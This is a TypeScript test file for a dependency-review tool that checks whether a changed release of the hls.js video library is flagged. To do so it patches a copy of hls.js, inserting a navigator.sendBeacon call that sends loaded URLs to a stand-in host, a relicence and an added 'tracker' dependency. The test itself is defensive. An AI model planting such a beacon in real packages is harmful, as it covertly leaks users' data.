import { execFile } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { comparePackages, type PackageComparison } from '../../../build/engines-check/compare.mjs';
import type { Inspection } from '../../../build/engines-check/inspect.mjs';
import { renderReport } from '../../../build/engines-check/report.mjs';
import { pointsToLookAt, verdict } from '../../../build/engines-check/verdict.mjs';

const root = fileURLToPath(new URL('../../../', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'changed-package-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** Texts of hls.js by file, each with what a later release could have instead of it. */
const laterRelease: readonly (readonly [file: string, text: string, instead: string])[] = [
  ['src/hls.ts', 'loadSource(url: string) {', 'loadSource(url: string) { navigator.sendBeacon("https://collector.test/v1", url);'],
  ['src/loader/date-range.ts', 'const previousAttr =', 'let previousAttr ='],
  ['src/loader/m3u8-parser.ts', "skipAttrs.decimalInteger('SKIPPED-SEGMENTS')", "skipAttrs.decimalInteger('SKIPPED')"],
  ['package.json', '"license": "Apache-2.0"', '"license": "UNLICENSED", "dependencies": { "tracker": "1.0.0" }']
];

/** Creates a project with the files of this one and another release of hls.js. */
function createProject(): string {
  for (const name of ['src', 'test']) symlinkSync(join(root, name), join(folder, name));
  cpSync(join(root, 'build'), join(folder, 'build'), { recursive: true });
  const modules = join(folder, 'node_modules');
  mkdirSync(modules);
  for (const name of readdirSync(join(root, 'node_modules')))
    if (name !== 'hls.js') symlinkSync(join(root, 'node_modules', name), join(modules, name));
  for (const part of ['src', 'package.json', 'LICENSE'])
    cpSync(join(root, 'node_modules/hls.js', part), join(modules, 'hls.js', part), { recursive: true });
  for (const [file, text, instead] of laterRelease) {
    const path = join(modules, 'hls.js', file);
    const before = readFileSync(path, 'utf8');
    expect(before, 'this test has to change a text that hls.js contains').toContain(text);
    writeFileSync(
      path,
      before.replaceAll(text, () => instead)
    );
  }
  return folder;
}

/** Examines the engines of hls.js in a project, like the command. */
async function inspect(project: string, name: string): Promise<Inspection> {
  const file = join(folder, `${name}.json`);
  await promisify(execFile)(process.execPath, ['build/engines-check/inspect.mjs', file, 'hls.js'], { cwd: project });
  return JSON.parse(readFileSync(file, 'utf8')) as Inspection;
}

const lastLine = (comparison: PackageComparison) => verdict(pointsToLookAt([comparison], []), 'hls.js 9.0.0', []);

describe('a release of hls.js that sends a beacon, moves code and has another licence', { timeout: 240_000 }, () => {
  let present: Inspection;
  let comparison: PackageComparison;
  let report: string;

  beforeAll(async () => {
    const inspections = await Promise.all([inspect(root, 'present'), inspect(createProject(), 'later')]);
    present = inspections[0];
    comparison = comparePackages(present.packages[0]!, inspections[1].packages[0]!, inspections[1].granted);
    report = renderReport({ comparisons: [comparison], results: [], verdict: lastLine(comparison) });
  }, 240_000);

  it('canary: the report names the beacon, its URL and its source, and that the realm has no beacon', () => {
    expect(report).toContain('| `navigator.sendBeacon` | the realm does not have it');
    expect(report).toContain('| `navigator.sendBeacon` | `hls.ts` | 0 | 1 | yes |');
    expect(report).toContain('| `https://collector.test/v1` | `hls.ts` | 0 | 1 | yes |');
  });

  it('canary: the report lists every change that no longer applies, with its file, instead of stopping at the first', () => {
    const unapplied = comparison.engines.flatMap((engine) => engine.unapplied).map(({ change, file }) => [change, file]);
    expect(unapplied).toEqual([
      ['const previousAttr = dateRangeWithSameId.attr', 'build/linear-time-patches.mjs'],
      ['skipAttrs.decimalInteger("SKIPPED-SEGMENTS")', 'build/seal.mjs']
    ]);
    for (const [change] of unapplied) expect(report).toContain(`| hls.js | \`${change}\` |`);
  });

  it('names the licence and the added dependency', () => {
    expect(report).toContain('- Licence: Apache-2.0 before, UNLICENSED after.');
    expect(report).toContain('- Dependency `tracker`: absent before, 1.0.0 after.');
  });

  it('ends with a line that names all of it', () => {
    expect(report.trim().split('\n').at(-1)).toBe(
      'hls.js 9.0.0: a person has to look at 2 changes of hls.js that do not apply; 1 name that hls.js asks for in addition; ' +
        '3 added uses of the network and the like in the sources of hls.js; the licence of hls.js; the dependencies of hls.js.'
    );
  });

  it('says that the present release can be taken', () => {
    const same = comparePackages(present.packages[0]!, present.packages[0]!, present.granted);
    expect(lastLine(same)).toBe('hls.js 9.0.0 can be taken.');
  });
});
